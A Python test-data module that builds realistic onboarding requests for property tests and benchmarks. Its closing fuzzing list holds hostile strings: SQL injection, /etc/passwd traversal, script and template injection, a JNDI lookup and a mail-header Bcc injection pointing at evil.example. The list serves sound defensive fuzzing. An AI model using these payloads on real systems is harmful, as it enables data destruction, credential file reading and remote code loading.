"""Onboarding requests as a busy B2B company receives them, for property tests and benchmarks.

A batch is realistic when its clients look alike the way real ones do: subsidiaries and regional
sites of one corporate family (internationalbank-fr.com, internationalbank-de.com), numbered
brands (acme2, acme-7), subdomains (eu.shop.acme.co.uk), the same brand under several TLDs,
labels up to DNS's 63 characters, Unicode names (Zürich, 東京, emoji) and their punycode domains
(xn--mnchen-3ya.de), and several clients with the same company name.

The same building blocks serve hypothesis (`onboarding_requests()`, `onboarding_batches()`) and
plain seeded code (`sample_requests(n, seed)`), through a `Pick` that is either hypothesis'
`draw` or a `random.Random`.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any, Protocol, TypeVar

from hypothesis import strategies as st

from shared.model import OnboardingRequest

T = TypeVar("T")
MAX_LABEL = 63


class Pick(Protocol):
    def choice(self, options: Sequence[T]) -> T: ...

    def integer(self, low: int, high: int) -> int: ...


@dataclass(frozen=True)
class Family:
    """A corporate family: the brand as its domains spell it, and the company's name."""

    brand: str  # the label as people write it; Unicode ones go in the domain as punycode
    name: str


_LONG = "thequickbrownfoxjumpsoverthelazydogandkeepsonrunningallnightlong"[:MAX_LABEL]
FAMILIES = (
    Family("internationalbank", "International Bank"),
    Family("internationalbankinggroup", "International Banking Group"),
    Family("acme", "Acme"),
    Family("acmecorp", "Acme Corp"),
    Family("globalconsultingpartners", "Global Consulting Partners"),
    Family("nordicshippingandlogistics", "Nordic Shipping & Logistics"),
    Family(_LONG, "The Quick Brown Fox Company"),
    Family("münchen", "Stadtwerke München"),
    Family("zürich", "Zürich Versicherung"),
    Family("東京", "東京"),
    Family("åland", "Ålandsbanken"),
    Family("rocketlabs", "🚀 Rocket Labs"),
    Family("smile", "😀"),
    Family("x", "Initech Software Holdings"),
)
COUNTRIES = ("fr", "de", "es", "it", "nl", "uk", "us", "jp", "br", "in", "au", "ca", "ch", "se")
SUBDOMAINS = ("", "", "", "eu", "us", "shop", "app", "eu.shop", "us.shop", "support", "www")
TLDS = ("com", "com", "co.uk", "de", "fr", "example", "io", "com.au", "jp", "ch")
LEGAL_FORMS = ("", "", "", " Ltd", " GmbH", " SA", " Inc.", " AG", " B.V.", " S.p.A.")
CONTACTS = ("Ada Lovelace", "Grace Hopper", "Zoë Ångström", "José Núñez", "山田 太郎", "")
MAILBOXES = ("ceo", "ada", "grace.hopper", "ops", "finance", "it-team")
GOALS = (
    "Roll out the analytics suite to the finance team",
    "Move the support team onto the new helpdesk",
    "Launch the customer portal by March",
    "Migrate 40 000 documents before the audit",
    "Train every regional office on the new CRM",
)
CHANNELS = ("#client-onboarding", "")


def build_request(pick: Pick) -> OnboardingRequest:
    """One client of one of the families, in one of the ways such clients differ."""
    family = pick.choice(FAMILIES)
    label, name = _variant(pick, family)
    subdomain = pick.choice(SUBDOMAINS)
    domain = ".".join(part for part in (subdomain, label, pick.choice(TLDS)) if part)
    return OnboardingRequest(
        company_name=name,
        domain=domain,
        contact_email=f"{pick.choice(MAILBOXES)}@{domain.removeprefix('www.')}",
        contact_name=pick.choice(CONTACTS),
        goal=pick.choice(GOALS),
        slack_channel=pick.choice(CHANNELS),
    )


def _variant(pick: Pick, family: Family) -> tuple[str, str]:
    """The brand's label and the company's name for one member of the family."""
    kind = pick.choice(("same", "country", "numbered", "numbered", "hyphenated", "long"))
    legal = pick.choice(LEGAL_FORMS)
    if kind == "country":
        country = pick.choice(COUNTRIES)
        return _label(f"{family.brand}-{country}"), f"{family.name} {country.upper()}{legal}"
    if kind == "numbered":
        number = pick.integer(2, 999)
        # Numbered brands often keep the family's name: Acme, Acme, Acme.
        name = pick.choice((family.name, f"{family.name} {number}"))
        return _label(f"{family.brand}{number}"), name + legal
    if kind == "hyphenated":
        number = pick.integer(1, 99)
        return _label(f"{family.brand}-{number}"), f"{family.name} {number}{legal}"
    if kind == "long":
        # A label at DNS's limit and a name near OnboardingRequest's.
        suffix = str(pick.integer(1, 9999))
        name = f"{family.name} {' '.join([family.name] * 12)}"[:190] + f" {suffix}"
        return _label(family.brand * 8, keep=suffix), name.strip()
    return _label(family.brand), family.name + legal


def _label(text: str, keep: str = "") -> str:
    """`text` + `keep` as a DNS label (punycode when it is Unicode) of at most 63 characters,
    `text` cut to fit."""
    for end in range(len(text), 0, -1):
        label = (text[:end].rstrip("-") + keep).strip("-")
        try:
            ascii_label = label if label.isascii() else label.encode("idna").decode("ascii")
        except UnicodeError:  # longer than 63 once encoded
            continue
        if len(ascii_label) <= MAX_LABEL:
            return ascii_label
    raise ValueError(f"no label fits for {text!r}")


class _DrawPick:
    def __init__(self, draw: Callable[[st.SearchStrategy[Any]], Any]) -> None:
        self._draw = draw

    def choice(self, options: Sequence[T]) -> T:
        return self._draw(st.sampled_from(options))

    def integer(self, low: int, high: int) -> int:
        return self._draw(st.integers(low, high))


class _RandomPick:
    def __init__(self, rng: random.Random) -> None:
        self._rng = rng

    def choice(self, options: Sequence[T]) -> T:
        return self._rng.choice(options)

    def integer(self, low: int, high: int) -> int:
        return self._rng.randint(low, high)


@st.composite
def onboarding_requests(draw: Callable[[st.SearchStrategy[Any]], Any]) -> OnboardingRequest:
    """One client; draw several and they share prefixes, names and families."""
    return build_request(_DrawPick(draw))


def onboarding_batches(
    min_size: int = 2, max_size: int = 60
) -> st.SearchStrategy[list[OnboardingRequest]]:
    """Clients submitted together: distinct domains (so distinct runs), alike as families are."""
    return st.lists(
        onboarding_requests(), min_size=min_size, max_size=max_size, unique_by=lambda r: r.domain
    )


def sample_requests(n: int, seed: int) -> list[OnboardingRequest]:
    """n requests with distinct domains, the same for the same seed (for benchmarks)."""
    rng = random.Random(seed)
    pick = _RandomPick(rng)
    requests: dict[str, OnboardingRequest] = {}
    for _ in range(n * 50):
        if len(requests) == n:
            break
        request = build_request(pick)
        requests.setdefault(request.domain, request)
    if len(requests) < n:
        raise ValueError(f"only {len(requests)} distinct requests after {n * 50} draws")
    return list(requests.values())


# --- Hostile input: for fuzzing what takes JSON from outside -----------------------------------

# Strings that have broken a parser, a template, a shell or a mail header somewhere.
hostile_text = st.sampled_from(
    [
        "",
        " ",
        "\u0000",
        "\u202egnp.exe",
        "x" * 5000,
        "'; DROP TABLE runs; --",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "ada@acme.example\r\nBcc: all@evil.example",
        "https://evil.example/login",
        "\ud800",
        "🚀" * 300,
        "#general",
        "run-0000",
    ]
)
# Any JSON value, hostile strings among them.
json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False)
    | st.text(max_size=30)
    | hostile_text,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=12,
)
